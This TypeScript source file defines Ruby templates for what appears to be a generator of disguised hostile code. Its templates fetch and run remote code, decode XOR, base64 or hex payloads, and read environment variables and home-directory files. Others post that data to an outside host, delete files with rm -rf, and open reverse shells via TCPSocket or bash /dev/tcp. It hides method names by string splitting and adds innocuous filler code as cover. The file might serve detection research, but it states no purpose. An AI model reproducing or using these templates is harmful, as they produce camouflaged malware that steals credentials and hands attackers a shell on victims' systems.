/** Ruby. */
import { reversed, shortName, toBase64, toHex, withoutDollar } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const quote = (text: string): string => withoutDollar(text).replaceAll("#{", "\\#{").replaceAll("\\$", "$");

export const RUBY: Tongue = {
  language: "ruby",
  fetched: [
    "«net/http#Net::HTTP.get»(URI($1))",
    "«open-uri#URI.open»($1).read",
    "`curl -fsSL #{$1}`",
    "«faraday#Faraday.get»($1).body",
  ],
  decoders: [
    { encode: toBase64, row: '$1.unpack1("m0")' },
    { encode: toBase64, row: "«base64#Base64.decode64»($1)" },
    { encode: toHex, row: '[$1].pack("H*")' },
    { encode: reversed, row: "$1.reverse" },
    {
      encode: (text) => [...Buffer.from(text)].map((byte) => byte ^ 5).join(" "),
      row: "$1.split.map { |code| (code.to_i ^ 5).chr }.join",
    },
  ],
  variable: ["ENV[$1].to_s", 'ENV.fetch($1, "")'],
  request: ["params[$1]", "request.env[$1]", "request.cookies[$1]", 'request.params.fetch($1, "")'],
  environment: [
    "ENV.to_h.inspect",
    "«json#JSON.generate»(ENV.to_h)",
    "`env`",
    'ENV.map { |name, value| "#{name}=#{value}" }.join("\\n")',
  ],
  homeFile: [
    "File.read(File.join(Dir.home, $1))",
    'IO.read(File.expand_path("~/" + $1))',
    "«pathname#Pathname.new»(Dir.home).join($1).read",
  ],
  file: ["File.read($1)", "IO.read($1)"],
  homePath: "File.join(Dir.home, $1)",
  walk: [
    'Dir.glob(File.join(Dir.home, $1, "**", "{" + $2.join(",") + "}"), File::FNM_DOTMATCH).map { |path| File.read(path) }.join',
  ],
  run: [
    "«system»($1)",
    "`#{$1}`",
    "«spawn»($1)",
    '«open3#Open3.capture2»("sh", stdin_data: $1)',
    "«exec»($1) if fork.nil?",
    "%x(#{$1})",
  ],
  runWithOptions: ["Process.detach(«spawn»($1, err: File::NULL, out: File::NULL, pgroup: true))"],
  evaluate: [
    "«eval»($1)",
    "«instance_eval»($1)",
    "Object.class_eval($1)",
    "TOPLEVEL_BINDING.eval($1)",
    "RubyVM::InstructionSequence.compile($1).eval",
  ],
  send: [
    "«net/http#Net::HTTP.post»(URI($1), $2)",
    '«net/http#Net::HTTP.post_form»(URI($1), { "q" => $2 })',
    "«faraday#Faraday.post»($1, $2)",
    '«system»("curl", "-s", "--data-binary", $2, $1)',
    '«open-uri#URI.open»($1 + "?q=" + URI.encode_www_form_component($2)).read',
  ],
  save: ["File.write($1, $2)", "IO.write($1, $2)"],
  append: ['File.write($1, $2, mode: "a")', 'File.open($1, "a") { |out| out.puts($2) }'],
  remove: ["«fileutils#FileUtils.rm_rf»($1)", '«system»("rm -rf " + $1)'],
  setVariable: ["ENV[$1] = $2"],
  handShell: [
    '«socket#TCPSocket.new»($1, $2.to_i).then { |line| exec("sh", in: line, out: line, err: line) }',
    'exec("bash -c \'bash -i >& /dev/tcp/" + $1 + "/" + $2 + " 0>&1\'")',
  ],
  helpers: {},
  quote,
  concat: (parts) => (parts.length > 4 ? `[${parts.join(", ")}].join` : parts.join(" + ")),
  list: (items) => `[${items.join(", ")}]`,
  assign: (name, value) => `${name} = ${value}`,
  reference: (name) => name,
  define: (name, parameters, row) => `def ${name}(${parameters.join(", ")})\n  ${row}\nend`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => expression,
  callee(library, name, how) {
    const imports = library === null ? [] : [`require "${library}"`];
    const [owner, method] = name.includes(".")
      ? [name.slice(0, name.lastIndexOf(".")), name.slice(name.lastIndexOf(".") + 1)]
      : [null, name];
    if (how === "plain") return { text: name, imports };
    if (how === "alias") {
      const held = `${shortName(method)}_call`.toUpperCase();
      return { text: `${held}.call`, imports, definitions: [`${held} = ${owner ?? "Kernel"}.method(:${method})`] };
    }
    const cut = `"${method.slice(0, 2)}" + "${method.slice(2)}"`;
    return { text: owner === null ? `Kernel.send(${cut}, ` : `${owner}.public_send(${cut}, `, imports, open: true };
  },
  comment: "#",
  ordinary: {
    definitions: [
      'def pad(value, width = 3)\n  value.to_s.rjust(width, "0")\nend',
      "LIMITS = { berth: 12, quay: 40 }.freeze",
      'def label(kind, index)\n  "#{kind}-#{pad(index)}"\nend',
    ],
    body: [
      "counts = LIMITS.keys.map { |kind| label(kind, 1).length }",
      'raise ArgumentError, "no berths" if counts.sum.negative?',
    ],
  },
  mayBreak: true,
};
